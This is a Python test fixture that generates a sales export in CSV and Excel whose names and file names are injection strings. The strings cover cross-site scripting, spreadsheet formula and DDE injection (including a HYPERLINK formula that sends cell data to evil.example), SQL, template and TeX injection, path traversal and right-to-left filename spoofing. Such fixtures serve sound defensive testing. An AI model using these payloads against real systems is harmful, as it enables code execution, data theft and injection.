"""Names that try to break whatever shows them, and a small export that is full of them."""

from __future__ import annotations

import csv
import datetime
import random
from pathlib import Path

import xlsxwriter

MARK = "alert"  # what every active name would call
NAMES: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(2)>',
    "script end": "</script><script>alert(3)</script>",
    "style end": "</style><svg onload=alert(4)>",
    "svg text end": "</text></svg><script>alert(5)</script>",
    "attribute": "x' onmouseover='alert(6)' y=\"",
    "link": "javascript:alert(7)",
    "data link": "data:text/html,<script>alert(8)</script>",
    "remote picture": "<img src=https://evil.example/a.png>",
    "comment": "<!-- <b> --> ]]> <![CDATA[ alert(9) ]]>",
    "math": "A$B_{x}$ $\\frac{1}{0}$ $math$",
    "tex": "\\input{/etc/passwd} \\def\\x{\\x}\\x % # & ~ ^",
    "turned": "invoice\u202egnp.exe\u202c",
    "isolates": "\u2067abc\u2066def\u200f\u200e",
    "lines": "line one\nline two\r\nline three",
    "controls": "bell\x07escape\x1b[31mred\x7f\x85\x9b",
    "command": "=cmd|' /C calc'!A1",
    "plus": "+1+cmd|' /C calc'!A1",
    "minus": "-2+3+cmd|' /C calc'!A1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A1",
    "tab": "\t=1+1",
    "wide equals": "＝1+1",
    "hyperlink": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "long": "Ltd" + "x" * 10_000,
    "format": "{0.__class__.__mro__} {value} %s %(name)s %n",
    "jinja": "{{ 7*7 }}{% for x in ().__class__ %}{{ config }}{% endfor %}",
    "sql": "Robert'); DROP TABLE lines;--",
    "sql quotes": "a\"b''c`d`\\'e",
    "path": "../../../etc/passwd",
    "windows path": "C:\\CON\\..\\x.html",
    "entities": "&lt;script&gt;alert(10)&lt;/script&gt; &amp;#60;&#x3c;b&#62;",
    "emoji": "👩‍👩‍👧‍👦 🏴‍☠️ Ltd",
    "marks": "Z" + "\u0351\u0320\u0489\u0335" * 30 + "algo",
    "arabic": "شركة الأمل <b>bold</b>",
    "chinese": "中华人民共和国上海市浦东新区张江高科技园区示例商贸有限责任公司第一采购部华东办事处",
    "spaces": "\u00a0\u3000 wide \u2028separators\u2029",
}
SOURCE = "data/raw <b>'&$x$"  # where the export lies in the project
CSV_FILE = "=cmd|' <img src=x onerror=alert(11)> $x$ {{7*7}}.csv"
BOOK_FILE = "月报 <script>alert(12)<script> '; DROP.xlsx"
SHEET = "<svg onload=alert(13)> $x$"
SPARE_COLUMN = "<svg onload=alert(14)> $x$ {{7*7}}"
HEADERS = (
    "customer_id", "customer_name", "order_id", "order_date", "product_id", "product_name", "category", "region",
    "sales_rep", "qty", "unit_price", "amount", "cost", SPARE_COLUMN,
)  # fmt: skip
MONTHS = 24
LAST = datetime.date(2026, 9, 30)
PLAIN_CUSTOMERS = 60


def write_export(folder: Path) -> None:
    """Orders of two years: a CSV file and a workbook, every text of them hostile somewhere."""
    folder.mkdir(parents=True)
    lines = sorted(_lines(), key=lambda line: line[3])
    half = len(lines) // 2
    with (folder / CSV_FILE).open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADERS, *lines[:half]])
    with xlsxwriter.Workbook(str(folder / BOOK_FILE)) as book:
        sheet = book.add_worksheet(SHEET)
        for at, line in enumerate([HEADERS, *lines[half:]]):
            for column, cell in enumerate(line):
                if isinstance(cell, str):
                    sheet.write_string(at, column, cell)
                else:
                    sheet.write_number(at, column, cell)


def _lines() -> list[tuple[object, ...]]:
    """Each name is a large customer, a loss maker, one that has gone quiet and one that moves between segments."""
    random_ = random.Random(1)
    names = list(NAMES.values())
    first = LAST - datetime.timedelta(days=MONTHS * 30)
    lines: list[tuple[object, ...]] = []
    kinds = ("large", "loss", "quiet", "moves")
    customers = [(kind, at) for kind in kinds for at in range(len(names))]
    customers += [("plain", at) for at in range(PLAIN_CUSTOMERS)]
    for number, (kind, at) in enumerate(customers):
        name = f"{names[at]} {kind}" if kind != "plain" else f"Plain {at} Ltd"
        key = f"{names[at][:30]}{kind}" if kind == "large" else f"C{number}"
        day = first + datetime.timedelta(days=random_.randrange(30))
        while day <= LAST:
            if not (kind == "quiet" and day > LAST - datetime.timedelta(days=75)):
                lines += _order(random_, (key, name), kind, day, names)
            gap = 80 if kind == "moves" and day < LAST - datetime.timedelta(days=200) else 21
            day += datetime.timedelta(days=random_.randrange(gap // 2, gap * 2))
    return lines


def _order(
    random_: random.Random, customer: tuple[str, str], kind: str, day: datetime.date, names: list[str]
) -> list[tuple[object, ...]]:
    place = random_.randrange(len(names))
    product, home = names[place], names[sum(map(ord, customer[0])) % len(names)]
    price = {"large": 900, "quiet": 500, "loss": 100}.get(kind, 60) + random_.randrange(40)
    qty = random_.randrange(1, 9)
    cost = round(price * qty * (1.6 if kind == "loss" else 0.6), 2)
    return [
        (*customer, f"O{customer[0][:20]}{day:%Y%m%d}", f"{day:%Y-%m-%d}", product[:40], product,
         names[place // 6], home, names[-1 - place // 9], qty, price, price * qty, cost, random_.choice(names))
    ]  # fmt: skip
